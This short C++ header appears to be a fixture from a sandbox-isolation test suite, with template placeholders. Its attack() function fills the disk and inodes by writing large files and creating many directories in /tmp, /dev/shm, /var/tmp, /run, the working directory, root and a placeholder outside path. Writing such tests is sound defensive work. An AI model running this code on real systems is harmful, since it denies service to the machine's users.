// Fills the disk and the inodes wherever it can write.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <string>
inline void attack(int) {
  static const std::string block(1 << 20, 'x');
  for (const char* folder : {"@OUTSIDE@", "/tmp", "/dev/shm", "/var/tmp", "/run", ".", "/"}) {
    const std::string name = std::string(folder) + "/hostile-@NAME@";
    const int file = open(name.c_str(), O_WRONLY | O_CREAT, 0666);
    for (int i = 0; file >= 0 && i < 20; ++i) static_cast<void>(write(file, block.data(), block.size()));
    for (int i = 0; i < 100 && mkdir((name + std::to_string(i)).c_str(), 0777) == 0; ++i) {
    }
  }
}
#define ATTACK(function) attack(function)
